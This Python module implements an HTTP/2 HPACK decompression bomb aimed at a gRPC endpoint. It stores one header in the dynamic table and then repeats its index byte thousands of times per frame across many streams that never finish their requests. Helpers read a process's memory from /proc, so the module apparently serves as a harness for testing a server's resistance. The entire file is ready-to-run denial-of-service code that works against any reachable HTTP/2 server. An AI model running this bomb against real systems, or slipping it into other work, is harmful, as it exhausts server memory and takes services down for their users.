"""Small header blocks that expand: each byte refers to a field sent once."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import struct
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_HEADERS, _ACK = 4, 1
_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The first entry of the dynamic table.
_AGAIN = b"\xbe"
# Fits into 16 KiB of metadata, as HTTP/2 counts: 33 bytes for each field.
WITHIN_LIMIT = 480
# One frame is full.
FULL_FRAME = 16_000


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(name: str, value: str, prefix: bytes = b"\0") -> bytes:
    return prefix + _text(name) + _text(value)


def _text(value: str) -> bytes:
    """Return a string of HPACK: a 7-bit length, continued in further bytes."""
    rest = len(value) - 127
    if rest < 0:
        return bytes([len(value)]) + value.encode()
    length = b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 | 128])
        rest //= 128
    return length + bytes([rest]) + value.encode()


@dataclass
class Bomb:
    """Connections with calls, none of which sends its request."""

    connections: int = 1
    streams: int = 150
    fields: int = FULL_FRAME
    # The size of the value that each field repeats.
    value: int = 0
    path: str = "/ecrkeeper.v1.RoleService/ListRoles"
    # Received frames by kind; `closed` counts connections that the peer closed.
    answers: Counter[str] = field(default_factory=Counter)
    sent: int = 0

    async def explode(self, address: str, *, tls: ssl.SSLContext | None = None, seconds: float = 3.0) -> None:
        """Send everything, then hold the connections until a time or all answers."""
        await asyncio.gather(*(self._connection(address, tls, seconds) for _ in range(self.connections)))

    async def _connection(self, address: str, tls: ssl.SSLContext | None, seconds: float) -> None:
        host, _, port = address.rpartition(":")
        try:
            reader, writer = await asyncio.open_connection(host, int(port), ssl=tls)
        except OSError:
            self.answers["closed"] += 1
            return
        reading = asyncio.create_task(self._read(reader, writer))
        with contextlib.suppress(OSError, asyncio.CancelledError):
            writer.write(_HELLO + _frame(_SETTINGS, 0, 0))
            for block, stream in zip(self._blocks(), range(1, 2 * self.streams, 2), strict=True):
                writer.write(_frame(_HEADERS, _END_HEADERS, stream, block))
                self.sent += len(block) + 9
                await writer.drain()
        ends = time.monotonic() + seconds
        while not reading.done() and time.monotonic() < ends:
            if self.answers["headers"] >= self.connections * self.streams:
                break
            await asyncio.wait([reading], timeout=0.05)
        reading.cancel()
        writer.close()

    def _blocks(self) -> list[bytes]:
        # POST and http are in the static table.
        plain = b"\x83\x86" + b"".join(
            _header(*pair)
            for pair in (
                (":path", self.path), (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc")
            )
        )  # fmt: skip
        first = plain + _header("a", "v" * self.value, b"\x40") + _AGAIN * self.fields
        return [first] + [plain + _AGAIN * self.fields] * (self.streams - 1)

    async def _read(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags = head[3], head[4]
                self.answers[{_HEADERS: "headers", _RESET: "reset"}.get(kind, "other")] += 1
                if kind in (_SETTINGS, _PING) and not flags & _ACK:
                    writer.write(_frame(kind, _ACK, 0, payload if kind == _PING else b""))
        except (asyncio.IncompleteReadError, OSError):
            self.answers["closed"] += 1


def resident(pid: int, peak: bool = False) -> int:
    """Return the memory of a process in MB: current, or the peak since `forget_peak`."""
    name = "VmHWM:" if peak else "VmRSS:"
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(int(line.split()[1]) for line in lines if line.startswith(name)) // 1024


def forget_peak(pid: int) -> None:
    """Reset the peak."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
